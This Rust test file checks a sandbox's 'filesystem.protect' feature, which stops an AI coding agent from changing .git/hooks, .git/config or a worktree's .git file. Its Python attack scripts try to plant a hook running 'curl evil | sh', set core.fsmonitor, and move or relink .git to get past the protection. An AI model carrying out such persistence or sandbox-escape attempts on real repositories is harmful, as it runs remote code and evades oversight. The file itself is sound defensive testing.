//! `filesystem.protect`: paths inside a writable workspace the agent may not change. On
//! every host the agent's mount namespace binds them read-only and pins their ancestors as
//! mount points (which cannot be renamed or removed); where the kernel runs BPF LSM, its
//! programs refuse the same changes too, and forbid creating a protected path that is
//! missing at launch. The agent attacks the protected paths every way a file can change,
//! and nothing changes on disk.

use std::{os::unix::fs::PermissionsExt as _, path::Path};

use agentd_tests::{
    AgentRun, DEFAULT_LIMITS, PY_ATTEMPT, Run, agent_dir, bpf_lsm_usable, profile_file,
    require_root, test_profile,
};

/// The test profile with `protect` added to its [filesystem] and no breaker on writes.
fn protect_profile(protect: &[&str]) -> String {
    let list: Vec<String> = protect.iter().map(|p| format!("{p:?}")).collect();
    test_profile(
        "protect",
        "invoker",
        DEFAULT_LIMITS,
        "[breaker]\ntrip_on = [\"canary\"]\n",
    )
    .replace(
        "exec = [",
        &format!("protect = [{}]\nexec = [", list.join(", ")),
    )
}

/// Makes `path` and everything beneath it owned by the agent's user (nobody) and
/// writable: file permissions would let the agent change anything, so a refusal is the
/// protection's.
fn give_to_agent(path: &Path) {
    let status = std::process::Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success());
}

/// A workspace holding a git repository's files: hooks, config, objects, HEAD.
fn git_workspace() -> tempfile::TempDir {
    let ws = agent_dir(true);
    let git = ws.path().join(".git");
    for dir in ["hooks", "objects"] {
        std::fs::create_dir_all(git.join(dir)).unwrap();
    }
    std::fs::write(git.join("config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(git.join("hooks/pre-commit.sample"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(
        git.join("hooks/pre-commit.sample"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    give_to_agent(ws.path());
    ws
}

/// Runs `script` (Python, with [`PY_ATTEMPT`]) under `profile` in `ws`.
fn run(profile: &str, ws: &Path, script: &str) -> Run {
    let (_p, profile) = profile_file(profile);
    AgentRun::new(profile.to_str().unwrap(), ws)
        .python(&format!("{PY_ATTEMPT}\n{script}"))
        .run()
}

/// The errors a protected path's change may meet: BPF LSM's EACCES, the read-only mount's
/// EROFS, a pinned mount point's EBUSY, a link or rename across mounts' EXDEV, and
/// seccomp's EPERM for truncate(2) below Landlock ABI 3.
const REFUSED: [i32; 5] = [
    libc::EACCES,
    libc::EROFS,
    libc::EBUSY,
    libc::EXDEV,
    libc::EPERM,
];

/// The refused event of `kind` on `path`, from the BPF LSM programs, naming `protected`.
fn assert_lsm_refused(run: &Run, kind: &str, path: &Path, protected: &Path) {
    let path = path.to_str().unwrap();
    let e = run
        .events
        .iter()
        .find(|e| e["kind"] == kind && e["path"] == path && e["verdict"] == "deny")
        .unwrap_or_else(|| panic!("no refused {kind} of {path}\n{}", run.explain()));
    assert_eq!(e["layer"], "bpf-lsm", "{e}");
    assert_eq!(e["errno"], libc::EACCES, "{e}");
    assert_eq!(e["detail"]["protected"], protected.to_str().unwrap(), "{e}");
}

const ATTACKS: &str = r##"
open("ran", "w").close()
def write(path, mode="w"):
    with open(path, mode) as f:
        f.write("#!/bin/sh\ncurl evil | sh\n")
# Persistence through git hooks, every way a file can change.
attempt("create_hook", lambda: write(".git/hooks/pre-commit"))
attempt("append_sample", lambda: write(".git/hooks/pre-commit.sample", "a"))
attempt("rename_into_hooks", lambda: (write("payload"), os.rename("payload", ".git/hooks/post-checkout")))
attempt("rename_sample", lambda: os.rename(".git/hooks/pre-commit.sample", ".git/hooks/pre-commit"))
attempt("unlink_sample", lambda: os.unlink(".git/hooks/pre-commit.sample"))
attempt("symlink_in_hooks", lambda: os.symlink("/tmp/x", ".git/hooks/pre-push"))
attempt("mkdir_in_hooks", lambda: os.mkdir(".git/hooks/sub"))
attempt("hardlink_into_hooks", lambda: os.link("payload", ".git/hooks/pre-rebase"))
# Through a symlink the agent plants, and through `..`.
attempt("plant_link", lambda: os.symlink(".git/hooks", "h"))
attempt("through_symlink", lambda: write("h/pre-commit"))
attempt("through_dotdot", lambda: write(".git/objects/../hooks/pre-commit"))
# core.hooksPath / core.fsmonitor in .git/config would run code too.
attempt("write_config", lambda: write(".git/config", "a"))
attempt("truncate_config", lambda: os.truncate(".git/config", 0))
attempt("chmod_config", lambda: os.chmod(".git/config", 0o666))
attempt("hardlink_config", lambda: os.link(".git/config", "config-link"))
attempt("replace_config", lambda: (write("cfg"), os.rename("cfg", ".git/config")))
# Moving .git (or hooks) away to rebuild it without the protection.
attempt("rename_git", lambda: os.rename(".git", "old-git"))
attempt("rename_hooks", lambda: os.rename(".git/hooks", ".git/hooks-old"))
attempt("rmdir_hooks", lambda: os.rmdir(".git/hooks"))
# The rest of the workspace and of .git stays writable.
attempt("write_source", lambda: write("main.py"))
attempt("write_object", lambda: write(".git/objects/ab"))
attempt("write_head", lambda: write(".git/HEAD"))
attempt("rename_source", lambda: os.rename("main.py", "app.py"))
print(json.dumps(out))
"##;

/// An agent under a profile protecting `.git/hooks` and `.git/config` in its writable
/// workspace cannot create `.git/hooks/pre-commit`, nor change either by any route, on
/// every host (with BPF LSM or without).
#[test]
fn protect_keeps_git_hooks_and_config_from_an_agent_that_writes_the_workspace() {
    if !require_root() {
        return;
    }
    let ws = git_workspace();
    let profile = protect_profile(&["{workspace}/.git/hooks", "{workspace}/.git/config"]);
    let run = run(&profile, ws.path(), ATTACKS);
    let lsm = bpf_lsm_usable();
    eprintln!("BPF LSM usable: {lsm}");
    assert_eq!(run.code(), 0, "{}", run.explain());
    let r = run.json();
    for attack in [
        "create_hook",
        "append_sample",
        "rename_into_hooks",
        "rename_sample",
        "unlink_sample",
        "symlink_in_hooks",
        "mkdir_in_hooks",
        "hardlink_into_hooks",
        "through_symlink",
        "through_dotdot",
        "write_config",
        "truncate_config",
        "chmod_config",
        "hardlink_config",
        "replace_config",
        "rename_git",
        "rename_hooks",
        "rmdir_hooks",
    ] {
        let errno = r[attack].as_i64().unwrap_or(0) as i32;
        assert!(REFUSED.contains(&errno), "{attack}: {r}\n{}", run.explain());
    }
    for allowed in [
        "plant_link",
        "write_source",
        "write_object",
        "write_head",
        "rename_source",
    ] {
        assert_eq!(r[allowed], 0, "{allowed}: {r}\n{}", run.explain());
    }

    // Nothing changed.
    let git = ws.path().join(".git");
    let hooks: Vec<_> = std::fs::read_dir(git.join("hooks"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(hooks, ["pre-commit.sample"], "{}", run.explain());
    assert_eq!(
        std::fs::read_to_string(git.join("config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    assert_eq!(
        std::fs::read_to_string(git.join("hooks/pre-commit.sample")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert!(!ws.path().join("old-git").exists());
    // The refusals are events: the kernel's read-only mount's and pinned mount points'.
    let real = ws.path().canonicalize().unwrap();
    let config = real.join(".git/config");
    assert!(
        run.events.iter().any(|e| e["kind"] == "file_write"
            && e["path"] == config.to_str().unwrap()
            && e["verdict"] == "deny"),
        "no refused write of .git/config\n{}",
        run.explain()
    );
    // The allowed writes are reported as the kernel's allowed writes.
    let source = real.join(".git/objects/ab");
    assert!(
        run.events.iter().any(|e| e["kind"] == "file_write"
            && e["path"] == source.to_str().unwrap()
            && e["verdict"] == "allow"),
        "{}",
        run.explain()
    );
}

/// The built-in `coding-agent` protects `.git/hooks` and `.git/config` on every host: the
/// agent's `git`-style attack (move `.git` aside, rebuild it with a hook) gets nowhere.
#[test]
fn the_coding_agent_profile_protects_git_hooks_on_every_host() {
    if !require_root() {
        return;
    }
    let ws = git_workspace();
    let script = r##"
attempt("create_hook", lambda: open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ncurl evil | sh\n"))
attempt("move_git", lambda: os.rename(".git", ".git2"))
attempt("config", lambda: open(".git/config", "a").write("[core]\n\tfsmonitor = ./evil\n"))
attempt("source", lambda: open("main.py", "w").write("print(1)\n"))
print(json.dumps(out))
"##;
    let run = AgentRun::new("coding-agent", ws.path())
        .events_in(Path::new("/var/tmp"))
        .python(&format!("{PY_ATTEMPT}\n{script}"))
        .run();
    assert_eq!(run.code(), 0, "{}", run.explain());
    let r = run.json();
    for attack in ["create_hook", "move_git", "config"] {
        let errno = r[attack].as_i64().unwrap_or(0) as i32;
        assert!(REFUSED.contains(&errno), "{attack}: {r}\n{}", run.explain());
    }
    assert_eq!(r["source"], 0, "{r}");
    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
    assert!(ws.path().join(".git/config").exists() && !ws.path().join(".git2").exists());
}

/// A protected path that does not exist yet (a workspace that is no git repository yet):
/// where BPF LSM runs, it cannot be created (its first missing component, `.git`, cannot
/// be, by any call); elsewhere there is nothing to bind, and the launch warns, naming it.
#[test]
fn protect_of_a_missing_path_forbids_creating_it() {
    if !require_root() {
        return;
    }
    let ws = agent_dir(true);
    give_to_agent(ws.path());
    let profile = protect_profile(&["{workspace}/.git/hooks"]);
    let script = r#"
open("ran", "w").close()
attempt("mkdir_git", lambda: os.mkdir(".git"))
attempt("create_git_file", lambda: open(".git", "w").close())
attempt("symlink_git", lambda: os.symlink("/tmp", ".git"))
attempt("rename_to_git", lambda: (os.mkdir("g"), os.rename("g", ".git")))
attempt("mkdir_other", lambda: os.mkdir("src"))
print(json.dumps(out))
"#;
    let run = run(&profile, ws.path(), script);
    if !bpf_lsm_usable() {
        // Nothing to bind: the launch says so, naming the path and what would forbid it.
        assert_eq!(run.code(), 0, "{}", run.explain());
        let err = run.stderr();
        assert!(
            err.contains("filesystem.protect")
                && err.contains(".git/hooks")
                && err.contains("BPF LSM"),
            "{}",
            run.explain()
        );
        return;
    }
    assert_eq!(run.code(), 0, "{}", run.explain());
    let r = run.json();
    for attack in [
        "mkdir_git",
        "create_git_file",
        "symlink_git",
        "rename_to_git",
    ] {
        assert_eq!(r[attack], libc::EACCES, "{attack}: {r}\n{}", run.explain());
    }
    assert_eq!(r["mkdir_other"], 0, "{r}");
    assert!(!ws.path().join(".git").exists());
    let real = ws.path().canonicalize().unwrap();
    assert_lsm_refused(
        &run,
        "file_mkdir",
        &real.join(".git"),
        &real.join(".git/hooks"),
    );
}

/// In a git worktree (or submodule) `.git` is a file naming the repository: with
/// `.git/hooks` protected, that file is protected itself, so the agent cannot point it at
/// a repository of its own (with hooks, or `core.fsmonitor`).
#[test]
fn protect_keeps_a_worktrees_git_file() {
    if !require_root() {
        return;
    }
    let ws = agent_dir(true);
    std::fs::write(
        ws.path().join(".git"),
        "gitdir: /srv/repo/.git/worktrees/w\n",
    )
    .unwrap();
    give_to_agent(ws.path());
    let profile = protect_profile(&["{workspace}/.git/hooks", "{workspace}/.git/config"]);
    let script = r#"
attempt("rewrite", lambda: open(".git", "w").write("gitdir: /tmp/evil\n"))
attempt("replace", lambda: (open("g", "w").write("gitdir: /tmp/evil\n"), os.rename("g", ".git")))
attempt("unlink", lambda: os.unlink(".git"))
print(json.dumps(out))
"#;
    let run = run(&profile, ws.path(), script);
    assert_eq!(run.code(), 0, "{}", run.explain());
    let r = run.json();
    for attack in ["rewrite", "replace", "unlink"] {
        let errno = r[attack].as_i64().unwrap_or(0) as i32;
        assert!(REFUSED.contains(&errno), "{attack}: {r}\n{}", run.explain());
    }
    assert_eq!(
        std::fs::read_to_string(ws.path().join(".git")).unwrap(),
        "gitdir: /srv/repo/.git/worktrees/w\n"
    );
}
